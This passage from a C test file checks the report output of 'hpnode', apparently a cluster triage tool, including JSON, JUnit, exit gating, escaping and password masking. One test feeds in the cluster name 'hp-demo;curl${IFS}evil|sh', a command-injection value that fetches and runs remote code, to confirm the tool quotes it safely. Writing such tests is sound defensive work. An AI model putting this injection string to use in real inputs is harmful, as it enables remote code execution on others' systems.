	it = cJSON_GetArrayItem(list, 1);
	T_STREQ(jstr(it, "check"), "cluster.status");
	T_STREQ(jstr(it, "tag"), "PASS");
	T_ASSERT(jnull(it, "priority"));
	T_STREQ(jstr(it, "section"), "J.1");
	T_STREQ(jstr(it, "title"), "Cluster Status");
	T_STREQ(jstr(it, "explain"), "hpnode explain J.1");

	it = cJSON_GetArrayItem(list, 2);
	T_STREQ(jstr(it, "check"), "events.signals");
	T_STREQ(jstr(it, "tag"), "FAIL");
	T_STREQ(jstr(it, "priority"), "P0");
	T_STREQ(jstr(it, "section"), "A+B");
	T_STREQ(jstr(it, "title"), "EFA / Security Group + VPC / Routing");
	T_STREQ(jstr(it, "explain"), "hpnode explain A B");
	T_STREQ(jstr(it, "group"), "Cluster Events (Root Cause Signals)");
	T_STREQ(jstr(it, "message"), "EFA health check failure on i-0abc0000000000001 (2 events)");
	T_STREQ(jstr(it, "node"), "i-0abc0000000000001");
	T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(it, "evidence")), 2);

	it = cJSON_GetArrayItem(list, 3);
	T_STREQ(jstr(it, "tag"), "WARN");
	T_STREQ(jstr(it, "priority"), "P1");
	T_STREQ(jstr(it, "group"), "Node Health Status");
	T_STREQ(jstr(it, "title"), "Hardware / Auto-Repair");

	it = cJSON_GetArrayItem(list, 5);
	T_STREQ(jstr(it, "check"), "logs.group");
	T_STREQ(jstr(it, "priority"), "P2");
	T_ASSERT(jnull(it, "section"));
	T_ASSERT(jnull(it, "title"));
	T_ASSERT(jnull(it, "explain"));
	T_STREQ(jstr(it, "group"), "CloudWatch Logs");

	/* Sanitised: escapes gone, tab as space, bad byte as '?', DEL and C1 dropped. */
	it = cJSON_GetArrayItem(list, 6);
	T_STREQ(jstr(it, "tag"), "INFO");
	T_ASSERT(jnull(it, "priority"));
	T_STREQ(jstr(it, "message"), "stream LifecycleConfig ? ok");
	T_STREQ(jstr(it, "node"), "i-0aa");
	T_STREQ(cJSON_GetArrayItem(cJSON_GetObjectItem(it, "evidence"), 0)->valuestring, "line one");

	it = cJSON_GetArrayItem(list, 7);
	T_STREQ(jstr(it, "tag"), "SKIP");

	sum = cJSON_GetObjectItem(doc, "summary");
	T_EQ(jnum(sum, "P0"), 1);
	T_EQ(jnum(sum, "P1"), 2);
	T_EQ(jnum(sum, "P2"), 1);
	T_EQ(jnum(sum, "pass"), 1);
	T_EQ(jnum(sum, "fail"), 2);
	T_EQ(jnum(sum, "warn"), 2);
	T_EQ(jnum(sum, "info"), 2);
	T_EQ(jnum(sum, "skip"), 1);
	cJSON_Delete(doc);
	hp_buf_release(&out);
	hp_findings_release(&f);
}

static void t_json_empty(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	cJSON *doc;

	hp_report_json(&f, NULL, &out);
	doc = cJSON_Parse(out.buf);
	T_ASSERT(doc != NULL);
	T_ASSERT(jnull(doc, "cluster"));
	T_ASSERT(jnull(doc, "region"));
	T_ASSERT(cJSON_IsArray(cJSON_GetObjectItem(doc, "findings")));
	T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(doc, "findings")), 0);
	T_EQ(jnum(cJSON_GetObjectItem(doc, "summary"), "P0"), 0);
	T_EQ(jnum(cJSON_GetObjectItem(doc, "summary"), "pass"), 0);
	cJSON_Delete(doc);
	hp_buf_release(&out);
}

static void t_worst(void)
{
	static const struct {
		enum hp_tag tag;
		enum hp_prio prio;
	} rows[] = {
		{ HP_TAG_PASS, HP_P0 },  /* 0: emit drops the priority of PASS */
		{ HP_TAG_INFO, HP_P0 },  /* 1 */
		{ HP_TAG_WARN, HP_PNONE }, /* 2: not an issue */
		{ HP_TAG_WARN, HP_P2 },  /* 3 */
		{ HP_TAG_FAIL, HP_P1 },  /* 4 */
		{ HP_TAG_WARN, HP_P0 },  /* 5 */
	};
	static const struct {
		size_t n;          /* first n rows */
		enum hp_prio want;
	} cases[] = {
		{ 0, HP_PNONE }, { 2, HP_PNONE }, { 3, HP_PNONE }, { 4, HP_P2 }, { 5, HP_P1 }, { 6, HP_P0 },
	};
	size_t i, j;

	for (i = 0; i < HP_ARRAY_LEN(cases); i++) {
		struct hp_findings f = { 0 };
		struct hp_emit em = { &c_nodes, &f };

		for (j = 0; j < cases[i].n; j++)
			hp_emitx(&em, rows[j].tag, rows[j].prio, NULL, NULL, "row %zu", j);
		if (hp_report_worst(&f) != cases[i].want) {
			int got = (int)hp_report_worst(&f);

			hp_findings_release(&f);
			T_FAILF("case %zu: worst %d, want %d", i, got, (int)cases[i].want);
		}
		hp_findings_release(&f);
	}
}

static void t_want_color(void)
{
	static const struct {
		int flag;
		const char *no_color, *term;
		int tty, want;
	} cases[] = {
		{ 0, NULL, "xterm-256color", 1, 1 },
		{ 0, NULL, NULL, 1, 1 },
		{ 0, "", "xterm", 1, 1 },       /* NO_COLOR set but empty: ignored */
		{ 1, NULL, "xterm", 1, 0 },     /* --no-color */
		{ 0, "1", "xterm", 1, 0 },
		{ 0, "0", "xterm", 1, 0 },      /* any non-empty value */
		{ 0, NULL, "dumb", 1, 0 },
		{ 0, NULL, "dumber", 1, 1 },
		{ 0, NULL, "xterm", 0, 0 },     /* not a tty */
		{ 1, "1", "dumb", 0, 0 },
	};
	size_t i;

	for (i = 0; i < HP_ARRAY_LEN(cases); i++)
		if (hp_report_want_color(cases[i].flag, cases[i].no_color, cases[i].term, cases[i].tty) !=
		    cases[i].want)
			T_FAILF("case %zu: want %d", i, cases[i].want);
}

/* Like T_CONTAINS, for needles too long for its message. */
#define HAS(hay, needle) do { const char *h_ = (hay), *n_ = (needle); \
	if (!strstr(h_, n_)) T_FAILF("%.200s ... not found in %.500s", n_, h_); } while (0)

/* The command line: shell-quoted, sanitised, URL passwords hidden, the program named "hpnode". */
static void t_command_line(void)
{
	static const char *const argv[] = {
		"/opt/bin/hpnode", "triage", "--cluster", "my cluster", "--endpoint-url",
		"https://alice:s3cret@proxy.example:8443/x", "--region", "it's\x1b[31m", "", NULL
	};
	struct hp_buf b = HP_BUF_INIT(4096);

	hp_report_command_line(argv, &b);
	T_STREQ(b.buf, "hpnode triage --cluster 'my cluster' --endpoint-url "
		       "'https://***@proxy.example:8443/x' --region 'it'\\''s' ''");
	T_ASSERT(!strstr(b.buf, "s3cret"));
	hp_buf_release(&b);
}

/* The run header: exact lines, replay marker, interruption; the rest of the report unchanged. */
static void t_text_header(void)
{
	static const char *const argv[] = { "hpnode", "triage", "--cluster", "ml-cluster", NULL };
	struct hp_report_run run = {
		.version = "9.8.7", .revision = "abc123", .started_ms = 1767225600000LL,
		.duration_ms = 12345, .argv = argv, .account = "111122223333",
		.caller_arn = "arn:aws:iam::111122223333:role/ops", .credential_source = "environment",
		.cluster_arn = "arn:aws:sagemaker:us-west-2:111122223333:cluster/abcdef012345",
		.replay_file = "snap.json", .collected_ms = 1767222000000LL,
		.collected_by = "hpnode 9.8.6", .interrupted = 2, .probed = 3, .to_probe = 40,
	};
	struct hp_report_opts o = plain;
	struct hp_findings f = { 0 };
	struct hp_buf a = HP_BUF_INIT(1 << 20), b = HP_BUF_INIT(1 << 20);
	const char *rest;

	build_small(&f);
	hp_report_text(&f, &plain, &a);
	o.run = &run;
	hp_report_text(&f, &o, &b);
	HAS(b.buf, "\nTool: hpnode 9.8.7 (abc123)  |  Started: 2026-01-01T00:00:00Z  |  Duration: 12.3 s\n"
		   "Command: hpnode triage --cluster ml-cluster\n"
		   "Account: 111122223333  |  Caller: arn:aws:iam::111122223333:role/ops  |  Credentials: environment\n"
		   "Cluster: ml-cluster  |  ARN: arn:aws:sagemaker:us-west-2:111122223333:cluster/abcdef012345  |  "
		   "Region: us-west-2  |  Orchestrator: EKS\n"
		   "Replayed from snap.json, collected at 2025-12-31T23:00:00Z by hpnode 9.8.6\n"
		   "PARTIAL REPORT \xe2\x80\x94 interrupted: 3 of 40 nodes probed (SIGINT); ");
	/* Without the header lines, the findings are byte for byte those of the report without a run. */
	rest = strstr(b.buf, "nodes not probed are listed as skipped\n");
	T_ASSERT(rest);
	rest += strlen("nodes not probed are listed as skipped\n");
	T_ASSERT(strstr(rest, "9. Triage Summary") && strstr(a.buf, "9. Triage Summary"));
	T_EQ((long)(strstr(rest, "9. Triage Summary") - rest),
	     (long)(strstr(a.buf, "9. Triage Summary") - strstr(a.buf, "\n\xe2\x95\x90")));
	T_ASSERT(!strncmp(rest, strstr(a.buf, "\n\xe2\x95\x90"),
			  (size_t)(strstr(rest, "9. Triage Summary") - rest)));
	/* The summary says the report is partial. */
	HAS(b.buf, "  PARTIAL REPORT: the run was interrupted (SIGINT); 3 of 40 nodes probed. "
		   "What was not read is not checked.\n");
	hp_buf_release(&a);
	hp_buf_release(&b);
	hp_findings_release(&f);
}

/*
 * A triage interrupted before its sweep: the phase and the unfinished ones
 * in the header, the summary and "Not checked" (counted in JSON), never
 * "no critical issues detected"; a replayed snapshot's phase ids are made safe.
 */
static void t_text_partial_phases(void)
{
	struct hp_report_run run = {
		.started_ms = 1767225600000LL, .duration_ms = 1000, .interrupted = 15,
		.interrupted_phase = "kube", .unfinished = { "kube", "probes", "\x1b[31mevil" },
		.nunfinished = 3,
	};
	struct hp_report_opts o = plain;
	struct hp_findings f = { 0 };
	struct hp_buf b = HP_BUF_INIT(1 << 20);
	cJSON *doc, *it;

	o.run = &run;
	hp_report_text(&f, &o, &b);
	HAS(b.buf, "PARTIAL REPORT \xe2\x80\x94 interrupted during the Kubernetes reads (kubectl) "
		   "(SIGTERM)\nNot finished: the Kubernetes reads (kubectl), the SSM probe sweep, ");
	HAS(b.buf, "evil \xe2\x80\x94 what they did not read is not checked\n");
	HAS(b.buf, "  PARTIAL REPORT: the run was interrupted (SIGTERM); not finished: the Kubernetes "
		   "reads (kubectl), the SSM probe sweep, ");
	HAS(b.buf, "evil. What was not read is not checked.\n"
		   "\n  No critical issues in what was read before the interruption.\n"
		   "\n  Not checked (3):\n"
		   "    - the Kubernetes reads (kubectl): not finished (interrupted by SIGTERM)\n"
		   "    - the SSM probe sweep: not finished (interrupted by SIGTERM)\n");
	T_ASSERT(!strstr(b.buf, "No critical issues detected"));
	T_ASSERT(!strchr(b.buf, '\x1b'));
	hp_buf_reset(&b);
	hp_report_json(&f, &o, &b);
	doc = cJSON_Parse(b.buf);
	T_ASSERT(doc != NULL);
	it = cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "run"), "interrupted");
	T_STREQ(cJSON_GetObjectItem(it, "signal")->valuestring, "SIGTERM");
	T_STREQ(cJSON_GetObjectItem(it, "phase")->valuestring, "kube");
	T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(it, "unfinished")), 3);
	T_STREQ(cJSON_GetArrayItem(cJSON_GetObjectItem(it, "unfinished"), 1)->valuestring, "probes");
	T_EQ(cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "summary"), "not_checked")->valuedouble, 3);
	cJSON_Delete(doc);
	hp_buf_reset(&b);
	build_small(&f);
	hp_report_junit(&f, &o, &b);
	HAS(b.buf, "<property name=\"interrupted\" value=\"during the Kubernetes reads (kubectl); "
		   "not finished: the Kubernetes reads (kubectl), the SSM probe sweep");
	hp_buf_release(&b);
	hp_findings_release(&f);
}

/* A PASS over many nodes: a count and five ids in text, every id in JSON "nodes". */
static void t_node_sample(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_buf t = HP_BUF_INIT(1 << 20), j = HP_BUF_INIT(1 << 20), ids = HP_BUF_INIT(1 << 16);
	struct hp_finding *x = hp_emitx(&em, HP_TAG_PASS, HP_PNONE, "", NULL, "Root volume below 80%% on 250 nodes");
	cJSON *doc;
	int i;

	hp_buf_puts(&ids, "nodes 1-100 of 250:");
	for (i = 0; i < 250; i++) {
		char id[32];
		snprintf(id, sizeof(id), "i-%017d", i);
		hp_finding_node(x, id);
		if (i < 100) {
			hp_buf_putc(&ids, ' ');
			hp_buf_puts(&ids, id);
		}
	}
	hp_finding_evidence(x, ids.buf);
	hp_finding_evidence(x, "not an id line");
	hp_report_text(&f, &plain, &t);
	HAS(t.buf, "  [PASS] Root volume below 80% on 250 nodes\n    250 nodes, e.g. i-00000000000000000 "
		   "i-00000000000000001 i-00000000000000002 i-00000000000000003 i-00000000000000004 \xe2\x80\xa6 "
		   "(every id: --json-file or --junit-file)\n    not an id line\n");
	T_ASSERT(!strstr(t.buf, "i-00000000000000005"));
	hp_report_json(&f, &plain, &j);
	doc = cJSON_Parse(j.buf);
	T_ASSERT(doc);
	T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(cJSON_GetArrayItem(cJSON_GetObjectItem(doc, "findings"), 0), "nodes")), 250);
	cJSON_Delete(doc);
	hp_buf_release(&t);
	hp_buf_release(&j);
	hp_buf_release(&ids);
	hp_findings_release(&f);
}

/*
 * JUnit: escaping; a <failure> exactly for what the gate counts (P1 without
 * --fail-on), whatever the tag; a WARN below it passes with its text in
 * <system-out>; SKIP is <skipped>; per-node testcases; no root skipped count.
 */
static void t_junit(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_buf b = HP_BUF_INIT(1 << 20);
	struct hp_finding *x;

	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "Two nodes <bad> & \"odd\"");
	hp_finding_node(x, "i-0000000000000000a");
	hp_finding_node(x, "i-0000000000000000b");
	hp_emitx(&em, HP_TAG_WARN, HP_P1, NULL, "i-0000000000000000c", "Node c is slow");
	hp_emitx(&em, HP_TAG_SKIP, HP_PNONE, NULL, "i-0000000000000000d", "Node d not probed");
	em.check = &c_logs;
	hp_emitx(&em, HP_TAG_WARN, HP_P2, NULL, NULL, "Log group it's missing");
	hp_findings_number_keys(&f);
	hp_report_junit(&f, &plain, &b);
	HAS(b.buf, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"hpnode triage\" tests=\"5\" "
		   "failures=\"3\" errors=\"0\">\n");
	HAS(b.buf, "<testcase classname=\"hpnode.nodes.status\" name=\"nodes.status/i-0000000000000000a\">\n"
		   "      <failure message=\"[P1] Two nodes &lt;bad&gt; &amp; &quot;odd&quot; \xe2\x86\x92 "
		   "references/node-diagnostics-detail.md \xc2\xa7 F (Hardware / Auto-Repair)\" type=\"FAIL P1\">");
	HAS(b.buf, "name=\"nodes.status/i-0000000000000000b\">\n      <failure ");
	/* A WARN at the gate's priority fails: the old <skipped> hid it from CI. */
	HAS(b.buf, "name=\"nodes.status/i-0000000000000000c\">\n      <failure message=\"[P1] Node c is slow "
		   "\xe2\x86\x92 references/node-diagnostics-detail.md \xc2\xa7 F (Hardware / Auto-Repair)\" "
		   "type=\"WARN P1\">[WARN] Node c is slow");
	HAS(b.buf, "name=\"nodes.status/i-0000000000000000d\">\n      <skipped message=\"Node d not probed\"/>\n"
		   "      <system-out>[SKIP] Node d not probed</system-out>");
	/* A P2 WARN is below the default gate: it passes, its text kept. */
	HAS(b.buf, "<testcase classname=\"hpnode.logs.group\" name=\"logs.group\">\n      <system-out>[WARN] "
		   "Log group it&apos;s missing \xe2\x86\x92 ");
	HAS(b.buf, "<testsuite name=\"6. CloudWatch Logs\" tests=\"1\" failures=\"0\" errors=\"0\" skipped=\"0\" id=");
	HAS(b.buf, "<testsuite name=\"3. Node Health Status\" tests=\"4\" failures=\"3\" errors=\"0\" skipped=\"1\" id=");
	/* Without measured times and a start, no time and no timestamp is made up. */
	T_ASSERT(!strstr(b.buf, "time="));
	T_ASSERT(!strstr(b.buf, "timestamp="));
	hp_buf_release(&b);
	hp_findings_release(&f);
}

/* The gate decides: --fail-on P0 passes the P1s, --fail-on P2 fails the P2 WARN too. */
static void t_junit_gate(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_buf b = HP_BUF_INIT(1 << 20), line = HP_BUF_INIT(1 << 12);
	struct hp_report_opts o = plain;
	struct hp_gate g;
	struct hp_finding *x;
	double secs[HP_GROUP__COUNT] = { 0 };

	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "Full on 3 nodes");
	hp_finding_node(x, "i-1");
	hp_finding_node(x, "i-2");
	hp_finding_node(x, "i-3");
	em.check = &c_events;
	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, "i-1", "EFA down");
	em.check = &c_logs;
	hp_emitx(&em, HP_TAG_WARN, HP_P2, NULL, NULL, "No log group");
	hp_findings_number_keys(&f);

	hp_report_gate(&f, HP_P0, 1, &g);
	T_EQ(g.findings, 1);
	T_EQ(g.keys, 1);
	o.gate = &g;
	hp_report_junit(&f, &o, &b);
	HAS(b.buf, "tests=\"5\" failures=\"1\" errors=\"0\">");
	HAS(b.buf, "name=\"nodes.status/i-1\">\n      <system-out>[FAIL] Full on 3 nodes");
	hp_report_gate_line(&g, &line);
	T_STREQ(line.buf, "--fail-on P0 counts 1 finding at P0 or worse (1 P0)");

	hp_report_gate(&f, HP_P1, 1, &g);
	T_EQ(g.findings, 2);
	T_EQ(g.keys, 4);
	hp_report_gate_line(&g, &line);
	T_STREQ(line.buf, "--fail-on P1 counts 2 findings at P1 or worse (1 P0, 1 P1; 4 keys, one per "
		"node of a finding about many nodes)");

	hp_report_gate(&f, HP_P2, 1, &g);
	T_EQ(g.keys, 5);
	hp_buf_reset(&b);
	secs[HP_GROUP_EVENTS] = 1.5;
	secs[HP_GROUP_LOGS] = 0.000042;
	o.group_s = secs;
	hp_report_junit(&f, &o, &b);
	HAS(b.buf, "tests=\"5\" failures=\"5\" errors=\"0\">");
	HAS(b.buf, "name=\"logs.group\">\n      <failure message=\"[P2] No log group");
	HAS(b.buf, "type=\"WARN P2\"");
	/* Each suite its own checks' time, never the run's. */
	HAS(b.buf, "<testsuite name=\"2. Cluster Events (Root Cause Signals)\" tests=\"1\" failures=\"1\" "
		   "errors=\"0\" skipped=\"0\" time=\"1.500000\"");
	HAS(b.buf, "<testsuite name=\"6. CloudWatch Logs\" tests=\"1\" failures=\"1\" errors=\"0\" "
		   "skipped=\"0\" time=\"0.000042\"");
	HAS(b.buf, "<testsuite name=\"3. Node Health Status\" tests=\"3\" failures=\"3\" errors=\"0\" "
		   "skipped=\"0\" time=\"0.000000\"");

	/* The text report names the gate when --fail-on was given, and only then. */
	hp_buf_reset(&b);
	hp_report_text(&f, &o, &b);
	HAS(b.buf, "\n  Exit gate: --fail-on P2 counts 3 findings at P2 or worse (1 P0, 1 P1, 1 P2; "
		   "5 keys, one per node of a finding about many nodes): exit status 3\n");
	g.given = 0;
	hp_buf_reset(&b);
	hp_report_text(&f, &o, &b);
	T_ASSERT(!strstr(b.buf, "Exit gate"));
	hp_findings_release(&f);
	memset(&f, 0, sizeof(f));
	hp_report_gate(&f, HP_P1, 1, &g);
	hp_report_gate_line(&g, &line);
	T_STREQ(line.buf, "--fail-on P1 counts no finding at P1 or worse");
	hp_buf_release(&b);
	hp_buf_release(&line);
}

/*
 * Findings of one check about one node are never merged: a PASS beside a
 * FAIL with the same key, and two per-node findings about the same node,
 * each have a testcase; the FAIL keeps the key, the others get ~n.
 */
static void t_junit_no_merging(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_buf b = HP_BUF_INIT(1 << 20);
	struct hp_finding *x;
	const char *p;
	size_t cases = 0;

	hp_emitx(&em, HP_TAG_PASS, HP_PNONE, NULL, "i-1", "Disk fine on i-1");
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-1", "Memory bad on i-1");
	x = hp_emitx(&em, HP_TAG_PASS, HP_PNONE, NULL, NULL, "Time in sync on 2 nodes");
	hp_finding_node(x, "i-1");
	hp_finding_node(x, "i-2");
	x = hp_emitx(&em, HP_TAG_WARN, HP_P1, NULL, NULL, "Clock drift on 2 nodes");
	hp_finding_node(x, "i-1");
	hp_finding_node(x, "i-2");
	hp_findings_number_keys(&f);
	hp_report_junit(&f, &plain, &b);
	for (p = b.buf; (p = strstr(p, "<testcase ")); p++)
		cases++;
	T_EQ(cases, 6);
	HAS(b.buf, "name=\"nodes.status/i-1\">\n      <failure message=\"[P1] Memory bad on i-1");
	HAS(b.buf, "name=\"nodes.status/i-1~2\">\n      <system-out>[PASS] Disk fine on i-1</system-out>");
	HAS(b.buf, "name=\"nodes.status/i-1~3\">\n      <system-out>[PASS] Time in sync on 2 nodes</system-out>");
	HAS(b.buf, "name=\"nodes.status/i-1~4\">\n      <failure message=\"[P1] Clock drift on 2 nodes");
	HAS(b.buf, "name=\"nodes.status/i-2~2\">\n      <system-out>[PASS] Time in sync on 2 nodes</system-out>");
	HAS(b.buf, "name=\"nodes.status/i-2\">\n      <failure message=\"[P1] Clock drift on 2 nodes");
	HAS(b.buf, "failures=\"3\"");
	hp_buf_release(&b);
	hp_findings_release(&f);
}

/* Remote text with noncharacters stays XML 1.0 text in every JUnit field (U+FFFD). */
static void t_junit_nonchars(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_buf b = HP_BUF_INIT(1 << 20);
	struct hp_finding *x;

	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-\xef\xbf\xbf", "Status \xef\xbf\xbe bad");
	hp_finding_evidence(x, "event \xef\xb7\x90 text");
	hp_emitx(&em, HP_TAG_SKIP, HP_PNONE, NULL, NULL, "not run \xef\xbf\xbf");
	hp_findings_number_keys(&f);
	hp_report_junit(&f, &plain, &b);
	T_ASSERT(!strstr(b.buf, "\xef\xbf\xbf") && !strstr(b.buf, "\xef\xbf\xbe") &&
		 !strstr(b.buf, "\xef\xb7\x90"));
	HAS(b.buf, "<failure message=\"[P1] Status \xef\xbf\xbd bad");
	HAS(b.buf, "  event \xef\xbf\xbd text</failure>");
	HAS(b.buf, "<skipped message=\"not run \xef\xbf\xbd\"/>");
	hp_buf_release(&b);
	hp_findings_release(&f);
}

/* The diff's JUnit too: XML 1.0 text through hp_xml_escape, a root junit-10.xsd allows. */
static void t_diff_junit_escaped(void)
{
	struct hp_findings none = { 0 }, f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_diff_side a, b;
	struct hp_diff d;
	struct hp_buf x = HP_BUF_INIT(1 << 20);

	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-1", "Status \xef\xbf\xbf <bad>");
	hp_findings_number_keys(&f);
	hp_diff_side_init(&a, "old.json", "report");
	hp_diff_side_init(&b, "new.json", "report");
	hp_diff_side_findings(&a, &none);
	hp_diff_side_findings(&b, &f);
	memset(&d, 0, sizeof(d));
	hp_diff_compare(&d, &a, &b);
	hp_diff_junit(&d, &x);
	T_ASSERT(!strstr(x.buf, "\xef\xbf\xbf"));
	HAS(x.buf, "Status \xef\xbf\xbd &lt;bad&gt;");
	HAS(x.buf, "<testsuites name=\"hpnode diff\" tests=\"1\" failures=\"1\" errors=\"0\" time=\"0\">\n");
	hp_buf_release(&x);
	hp_diff_release(&d);
	hp_diff_side_release(&a);
	hp_diff_side_release(&b);
	hp_findings_release(&f);
}

/* A folded finding over 2,500 nodes as fold.c makes it: 25 sample lines, then the ids. */
static struct hp_finding *fold_2500(struct hp_emit *em, enum hp_tag tag, const char *msg)
{
	struct hp_finding *x = hp_emitx(em, tag, tag == HP_TAG_WARN ? HP_P1 : HP_PNONE, NULL, NULL,
					"%s", msg);
	int i;

	for (i = 0; i < 2500; i++) {
		char id[32];

		snprintf(id, sizeof(id), "i-%017d", i);
		hp_finding_node(x, id);
		if (tag == HP_TAG_WARN && i < 25) {
			char line[96];

			snprintf(line, sizeof(line), "%s: root volume 91%% used", id);
			hp_finding_evidence(x, line);
		}
	}
	hp_finding_list_ids(x);
	return x;
}

struct sink_log {
	struct hp_buf all;
	size_t pieces, largest;
};

static void log_sink(void *ud, const char *p, size_t n)
{
	struct sink_log *l = ud;

	l->pieces++;
	if (n > l->largest)
		l->largest = n;
	hp_buf_putn(&l->all, p, n);
}

/*
 * JUnit at 2,500 nodes (it once stopped on "internal buffer cap
 * exceeded"): a testcase per node, each with its finding's message and
 * sample lines but not the 25 lines of ids (which made the report grow
 * with the square of the nodes); JSON keeps every id line; the renderers
 * hand the report out in pieces of about 64 KiB, the same bytes as whole.
 */
static void t_junit_and_json_at_2500_nodes(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_buf j = HP_BUF_INIT((size_t)1 << 30), x = HP_BUF_INIT((size_t)1 << 30);
	struct hp_buf piece = HP_BUF_INIT((size_t)1 << 30);
	struct hp_report_opts o = plain;
	struct sink_log log;
	cJSON *doc;
	const char *p;
	size_t cases = 0;
	int fmt;

	fold_2500(&em, HP_TAG_WARN, "Root volume over 90% full on 2500 nodes");
	fold_2500(&em, HP_TAG_PASS, "Time in sync on 2500 nodes");
	T_EQ(hp_finding_id_lines(&f.v[0]), 25);
	T_EQ(hp_finding_lines(&f.v[0]), 50);
	hp_report_junit(&f, &plain, &x);
	for (p = x.buf; (p = strstr(p, "<testcase ")); p++)
		cases++;
	/* A testcase per node of each finding: the WARN's and the PASS's, never merged. */
	T_EQ(cases, 5000);
	T_ASSERT(!strstr(x.buf, "nodes 1-100 of 2500"));
	HAS(x.buf, "name=\"nodes.status/i-00000000000002499\">\n      <failure message=\"[P1] "
		   "Root volume over 90% full on 2500 nodes");
	HAS(x.buf, "name=\"nodes.status/i-00000000000002499~2\">\n      <system-out>[PASS] Time in sync "
		   "on 2500 nodes</system-out>");
	HAS(x.buf, "  i-00000000000000024: root volume 91% used</failure>");
	/* Linear in the nodes: a few hundred bytes of case and the 25 sample lines each. */
	T_ASSERT(x.len < 2500 * 6000);
	hp_report_json(&f, &plain, &j);
	doc = cJSON_Parse(j.buf);
	T_ASSERT(doc);
	{
		const cJSON *w = cJSON_GetArrayItem(cJSON_GetObjectItem(doc, "findings"), 0);

		T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(w, "nodes")), 2500);
		T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(w, "evidence")), 50);
		struct hp_buf want = HP_BUF_INIT(1 << 16);
		int k;

		hp_buf_puts(&want, "nodes 2401-2500 of 2500:");
		for (k = 2400; k < 2500; k++)
			hp_buf_printf(&want, " i-%017d", k);
		T_ASSERT(!strcmp(cJSON_GetArrayItem(cJSON_GetObjectItem(w, "evidence"), 49)->valuestring,
				 want.buf));
		hp_buf_release(&want);
	}
	cJSON_Delete(doc);
	/* Through a sink: the same bytes, in pieces, out never holding more than a piece. */
	for (fmt = 0; fmt < 3; fmt++) {
		memset(&log, 0, sizeof(log));
		hp_buf_init(&log.all, (size_t)1 << 30);
		o.sink = log_sink;
		o.sink_ud = &log;
		hp_buf_reset(&piece);
		if (fmt == 0)
			hp_report_text(&f, &o, &piece);
		else if (fmt == 1)
			hp_report_json(&f, &o, &piece);
		else
			hp_report_junit(&f, &o, &piece);
		T_EQ(piece.len, 0);
		if (fmt == 1)
			T_STREQ(log.all.buf, j.buf);
		if (fmt == 2) {
			T_STREQ(log.all.buf, x.buf);
			T_ASSERT(log.pieces > 10);
		}
		T_ASSERT(log.largest < ((size_t)192 << 10));
		hp_buf_release(&log.all);
	}
	hp_buf_release(&piece);
	hp_buf_release(&j);
	hp_buf_release(&x);
	hp_findings_release(&f);
}

/* Evidence added after the id lines keeps its place: the ids become lines first. */
static void t_id_lines_then_evidence(void)
{
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_finding *x = hp_emitx(&em, HP_TAG_PASS, HP_PNONE, "", NULL, "five");
	struct hp_buf j = HP_BUF_INIT(1 << 20);
	int i;

	for (i = 0; i < 5; i++) {
		char id[16];

		snprintf(id, sizeof(id), "i-%d", i);
		hp_finding_node(x, id);
	}
	hp_finding_node(x, "i-0");
	T_EQ(x->nnodes, 6);
	/* One copy of each id, however many findings name it. */
	T_ASSERT(x->nodes[0] == x->nodes[5]);
	hp_finding_list_ids(x);
	hp_finding_evidence(x, "after");
	T_EQ(hp_finding_id_lines(x), 0);
	T_EQ(cJSON_GetArraySize(x->evidence), 2);
	T_STREQ(cJSON_GetArrayItem(x->evidence, 0)->valuestring, "nodes 1-6 of 6: i-0 i-1 i-2 i-3 i-4 i-0");
	T_STREQ(cJSON_GetArrayItem(x->evidence, 1)->valuestring, "after");
	hp_report_json(&f, &plain, &j);
	HAS(j.buf, "\"evidence\":[\"nodes 1-6 of 6: i-0 i-1 i-2 i-3 i-4 i-0\",\"after\"]");
	hp_buf_release(&j);
	hp_findings_release(&f);
}

/* A cluster name from a hostile reply or snapshot is one quoted word in the printed next step. */
static void t_next_steps_quoted(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_emit em = { &c_status, &f };
	struct hp_report_opts o = plain;

	o.cluster = "hp-demo;curl${IFS}evil|sh";
	o.region = "us-west-2 x";
	hp_emit(&em, HP_TAG_PASS, "Cluster status: InService");
	hp_report_text(&f, &o, &out);
	T_CONTAINS(out.buf, "hpnode triage --cluster 'hp-demo;curl${IFS}evil|sh' --region 'us-west-2 x' "
		   "--node <instance-id>\n");
	hp_buf_reset(&out);
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "a fault");
	hp_report_text(&f, &o, &out);
	T_CONTAINS(out.buf, "confirm on the affected node: hpnode triage --cluster "
		   "'hp-demo;curl${IFS}evil|sh' --region 'us-west-2 x' --node <instance-id>\n");
	hp_buf_release(&out);
	hp_findings_release(&f);
}

/* XML text holds only Char: noncharacters become U+FFFD (never dropped), specials entities. */
static void t_xml_escape_chars(void)
{
	struct hp_buf out = HP_BUF_INIT(4096);

